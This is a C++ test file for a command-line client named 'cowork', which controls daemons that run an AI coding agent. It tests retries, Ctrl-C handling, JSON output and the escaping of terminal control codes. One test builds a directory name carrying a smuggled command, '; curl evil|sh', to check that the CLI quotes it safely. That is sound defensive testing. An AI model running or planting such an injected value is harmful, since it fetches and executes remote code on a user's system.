// cowork as a program: what a person at a terminal sees, and what a script gets.

#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <gmock/gmock.h>
#include <google/protobuf/util/json_util.h>

#include "tests/support/cowork_at_work.h"

namespace cowork {
namespace {

using support::FakeBroker;
using support::Outcome;
using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::StartsWith;

class Cli : public support::CoworkAtWork {};

TEST_F(Cli, SaysInThreeLinesThatTheDaemonsDoNotRun) {
  const Outcome outcome = Cowork({"status"});
  EXPECT_EQ(outcome.exit, 4);
  EXPECT_THAT(outcome.text, AllOf(HasSubstr("cowork: the daemons cannot be asked\n"),
                                  HasSubstr("\n  do    cowork up\n")));
}

TEST_F(Cli, RefusesAHomeThatNoSocketPathCouldHold) {
  child_ = ::fork();
  if (child_ == 0) {
    ::setenv("COWORK_HOME", ("/" + std::string(80, 'h')).c_str(), 1);
    ::execl(COWORK_PROGRAM, "cowork", "status", nullptr);
    ::_exit(98);
  }
  int status = 0;
  ::waitpid(child_, &status, 0);
  EXPECT_EQ(WEXITSTATUS(status), 2);
}

TEST_F(Cli, NamesACommandThatThereIsNot) {
  const Outcome outcome = Cowork({"frobnicate", "now"});
  EXPECT_EQ(outcome.exit, 2);
  EXPECT_THAT(outcome.text, HasSubstr("why   there is no command frobnicate\n"));
  EXPECT_THAT(Cowork({"--socket", "/x", "grant", "frobnicate"}).text,
              HasSubstr("why   there is no command grant frobnicate\n"));
  EXPECT_THAT(Cowork({"run", "frobnicate", "--no"}).text, Not(HasSubstr("there is no command")));
}

TEST_F(Cli, StartsNothingWhereNoGrantIs) {
  StartBroker();
  const Outcome outcome = Cowork({"run", "do it", "-C", At("/other")});
  EXPECT_EQ(outcome.exit, 3);
  EXPECT_THAT(outcome.text, HasSubstr("do    cowork grant add " + At("/other")));
  EXPECT_THAT(broker_->prompt(), IsEmpty());
}

TEST_F(Cli, LetsNoDirectoryWriteWhatToDo) {
  StartBroker();
  const std::string name = At("/x; curl evil|sh");
  std::filesystem::create_directory(name);
  const std::string word = "$'" + At("/x") + R"(\x3b\x20curl\x20evil\x7csh')";
  EXPECT_THAT(Cowork({"run", "do it", "-C", name}).text,
              HasSubstr("\n  do    cowork grant add " + word + "\n"));
  for (const std::string& missing : {name + "/no", name + "/no/no"}) {
    const std::string typed = word.substr(0, word.size() - 1) + missing.substr(name.size()) + "'";
    EXPECT_THAT(Cowork({"run", "do it", "-C", missing}).text, HasSubstr("do    ls -ld " + typed));
    EXPECT_THAT(Cowork({"grant", "add", missing}).text, HasSubstr("do    ls -ld " + typed));
  }
}

TEST_F(Cli, LetsNoEscapeOfTheModelReachTheTerminal) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  Type("d\n");
  EXPECT_THAT(Finish().text, AllOf(Not(HasSubstr("\x1b[2J")), HasSubstr("\\x1b[2Jfirst.")));
}

TEST_F(Cli, LetsNoEscapeOfBrokerdReachTheTerminal) {
  StartBroker();
  broker_->started = "s-4f2k9\x1b[2J";
  EXPECT_THAT(Cowork({"run", "do it", "-C", At("/app"), "--detach"}).text,
              AllOf(HasSubstr("s-4f2k9\\x1b[2J\n"), Not(HasSubstr("\x1b"))));
}

TEST_F(Cli, StopsTheTurnThatItBeganAtCtrlCAndShowsItsEnd) {
  StartBroker();
  broker_->ends_when_stopped = true;
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  Type("\x03");
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 130);
  EXPECT_THAT(broker_->stopped(), ElementsAre(FakeBroker::kSession));
  EXPECT_THAT(outcome.text, HasSubstr("stopped in "));
}

TEST_F(Cli, SaysHowATurnThatFailedCanGoOn) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  broker_->Tell(FakeBroker::Ends(v1::Session::FAILED, "the gate went away"));
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 1);
  EXPECT_THAT(outcome.text, HasSubstr("\n  cowork resume s-4f2k9\r\n"));
}

TEST_F(Cli, SaysNoOtherWayToGoOnThanTheReasonOfTheEnd) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  broker_->Tell(
      FakeBroker::Ends(v1::Session::FAILED, "the key is refused; cowork secret set demo-key"));
  EXPECT_THAT(Finish().text, AllOf(HasSubstr("secret set"), Not(HasSubstr("cowork resume"))));
}

TEST_F(Cli, LeavesTheTurnToItselfAtASecondCtrlC) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  Type("\x03");
  ReadUntil("Ctrl-C again leaves it");
  Type("\x03");
  EXPECT_EQ(Finish().exit, -SIGINT);
}

TEST_F(Cli, SaysThatNobodyKnowsWhereTheDaemonsWentAwayAtCtrlC) {
  StartBroker();
  broker_->is_away_at_stops = true;
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  Type("\x03");
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 130);
  EXPECT_THAT(outcome.text, AllOf(HasSubstr("What became of the session"),
                                  Not(HasSubstr("goes on without you"))));
}

TEST_F(Cli, ComesBackToATurnThatItStoppedWhenTheDaemonsDo) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  Type("\x03");
  while (broker_->stopped().empty()) std::this_thread::yield();
  broker_.reset();
  ReadUntil("waiting for them");
  StartBroker();
  broker_->AnswerFromElsewhere();
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 130);
  EXPECT_THAT(outcome.text, HasSubstr("done in "));
}

TEST_F(Cli, LeavesASessionThatItOnlyWatchesAtCtrlCAndSaysHowToGoOn) {
  StartBroker();
  BeginAtATerminal({"watch", FakeBroker::kSession});
  ReadUntil("cowork approve");
  Type("\x03");
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 130);
  EXPECT_THAT(outcome.text,
              AllOf(HasSubstr("cowork watch s-4f2k9"), HasSubstr("cowork stop s-4f2k9")));
  EXPECT_THAT(broker_->stopped(), IsEmpty());
}

TEST_F(Cli, EndsAtCtrlCWhileBrokerdDoesNotAnswer) {
  const os::UniqueFd listener = support::ListenAt(Socket(), SOCK_STREAM);
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  const os::UniqueFd dialled(::accept(listener.get(), nullptr, nullptr));
  Type("\x03");
  EXPECT_EQ(Finish().exit, -SIGINT);
}

TEST_F(Cli, LeavesAtCtrlCWhileItWaitsForTheDaemons) {
  StartBroker();
  BeginAtATerminal({"watch", FakeBroker::kSession});
  ReadUntil("cowork approve");
  broker_.reset();
  ReadUntil("waiting for them");
  Type("\x03");
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 130);
  EXPECT_THAT(outcome.text, HasSubstr("cowork show s-4f2k9"));
}

TEST_F(Cli, DoesNotTakeAJournalWithoutAnEndForDone) {
  StartBroker();
  broker_->forgets_ends = true;
  broker_->AnswerFromElsewhere();
  const Outcome outcome = Cowork({"watch", "s-4f"});
  EXPECT_EQ(outcome.exit, 1);
  EXPECT_THAT(outcome.text, HasSubstr("cowork: how session s-4f2k9 ended is not known\n  why "));
  EXPECT_EQ(Cowork({"watch", "s-4f", "--from", "9"}).exit, 0) << "there was no more to tell";
}

TEST_F(Cli, PrintsOneObjectALineForScripts) {
  StartBroker();
  broker_->AnswerFromElsewhere();
  const Outcome outcome = Cowork({"watch", "s-4f", "--json"});
  EXPECT_EQ(outcome.exit, 0);
  std::istringstream lines(outcome.text);
  uint64_t sequence = 0;
  for (std::string line; std::getline(lines, line);) {
    if (!line.starts_with("{")) continue;  // A hint, on stderr.
    v1::Event event;
    ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(line, &event).ok()) << line;
    EXPECT_EQ(event.sequence(), ++sequence);
  }
  EXPECT_EQ(sequence, 5U);
  EXPECT_THAT(outcome.text, HasSubstr("\"unix_ms\""));
}

TEST_F(Cli, ListsNothingToFindAnIdThatWasTypedWhole) {
  StartBroker();
  EXPECT_EQ(Cowork({"show", FakeBroker::kSession}).exit, 0);
  EXPECT_EQ(Cowork({"approve", FakeBroker::kApproval}).exit, 0);
  EXPECT_EQ(Cowork({"watch", FakeBroker::kSession}).exit, 0);
  EXPECT_EQ(Cowork({"stop", FakeBroker::kSession}).exit, 0);
  EXPECT_EQ(Cowork({"grant", "rm", FakeBroker::kGrant}).exit, 3) << "it waits to be confirmed";
  EXPECT_EQ(Cowork({"client", "revoke", FakeBroker::kClient}).exit, 0);
  EXPECT_EQ(broker_->answers().size(), 1U);
  EXPECT_EQ(broker_->stopped(), std::vector<std::string>{FakeBroker::kSession});
  EXPECT_EQ(broker_->lists(), 0);
}

TEST_F(Cli, AsksTheNextBrokerdWhatTheContractCallsIdempotent) {
  StartBroker();
  broker_->deaths = 1;
  const Outcome outcome = Cowork({"grant", "ls"});
  EXPECT_EQ(outcome.exit, 0) << outcome.text;
  EXPECT_EQ(broker_->lists(), 2);
}

TEST_F(Cli, AsksOnceMoreAndNotForEver) {
  StartBroker();
  broker_->deaths = 2;
  EXPECT_EQ(Cowork({"grant", "ls"}).exit, 4);
  EXPECT_EQ(broker_->lists(), 2);
}

TEST_F(Cli, TakesBrokerdsOwnWordThatAnotherIsAway) {
  StartBroker();
  broker_->refused_lists = 1;
  const Outcome outcome = Cowork({"grant", "ls"});
  EXPECT_EQ(outcome.exit, 4);
  EXPECT_THAT(outcome.text, HasSubstr("why   policyd is away\n"));
  EXPECT_EQ(broker_->lists(), 1);
}

TEST_F(Cli, WaitsForABrokerdThatIsBeingRestarted) {
  os::UniqueFd first = support::ListenAt(Socket(), SOCK_STREAM);
  Begin({"grant", "ls"});
  os::UniqueFd client(::accept(first.get(), nullptr, nullptr));
  std::filesystem::remove(Socket());
  first.Reset();
  client.Reset();
  EXPECT_FALSE(ReadMore(std::chrono::milliseconds(300))) << seen_;
  StartBroker();
  EXPECT_EQ(Finish().exit, 0) << seen_;
}

TEST_F(Cli, NeverSendsTwiceWhatIsNotIdempotent) {
  StartBroker();
  broker_->deaths = 1;
  EXPECT_EQ(Cowork({"approve", FakeBroker::kApproval}).exit, 4);
  EXPECT_EQ(broker_->answers().size(), 1U);
}

TEST_F(Cli, ListsMoreThanFourMebibytes) {
  StartBroker();
  v1::Session session;
  session.set_model(std::string(64'000, 'x'));
  broker_->more_sessions.assign(100, session);
  for (int i = 0; i < 100; ++i)
    broker_->more_sessions[static_cast<size_t>(i)].set_id("s-" + std::to_string(100 + i));
  const Outcome outcome = Cowork({"ls"});
  EXPECT_EQ(outcome.exit, 0) << outcome.text;
  EXPECT_EQ(std::ranges::count(outcome.text, '\n'), 101);
}

TEST_F(Cli, PrintsWhatItDidAsJson) {
  StartBroker();
  EXPECT_THAT(Cowork({"stop", FakeBroker::kSession, "--json"}).text,
              StartsWith(std::string("{\"id\":\"") + FakeBroker::kSession + "\""));
  EXPECT_THAT(Cowork({"deny", FakeBroker::kApproval, "--json"}).text, StartsWith("{\"id\":\"a-"));
  EXPECT_THAT(Cowork({"approve", FakeBroker::kApproval, "--json"}).text,
              StartsWith("{\"id\":\"a-"));
}

TEST_F(Cli, DoesNotTakeASessionThatThereIsNotForShown) {
  StartBroker();
  const Outcome outcome = Cowork({"show", "s-zzz"});
  EXPECT_EQ(outcome.exit, 1);
  EXPECT_THAT(outcome.text, HasSubstr("\n  do    cowork ls\n"));
}

TEST_F(Cli, TellsHowToAnswerOnlyWhatStillWaits) {
  StartBroker();
  Begin({"watch", "s-4f2k9"});
  ReadUntil("waits for an answer: cowork approve a-91xk2");
  broker_->AnswerFromElsewhere();
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_THAT(Cowork({"watch", "s-4f2k9"}).text,
              AllOf(HasSubstr("npm test"), Not(HasSubstr("waits for an answer"))));
}

TEST_F(Cli, ShowsThatTheAgentBeginsUntilItsFirstWord) {
  StartBroker();
  broker_->before_telling = std::chrono::milliseconds(1500);
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("the agent begins");
  ReadUntil("\r\x1b[K");
  ReadUntil("I'll run the tests");
  broker_->AnswerFromElsewhere();
  EXPECT_EQ(Finish().exit, 0);
}

TEST_F(Cli, ShowsWhatHappenedSoFarAndReturns) {
  StartBroker();
  broker_->before_telling = std::chrono::milliseconds(700);
  const Outcome outcome = Cowork({"show", "s-4f2k9"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_THAT(outcome.text,
              AllOf(HasSubstr("npm test"), HasSubstr("cowork watch s-4f2k9 --from 4")));
}

}  // namespace
}  // namespace cowork
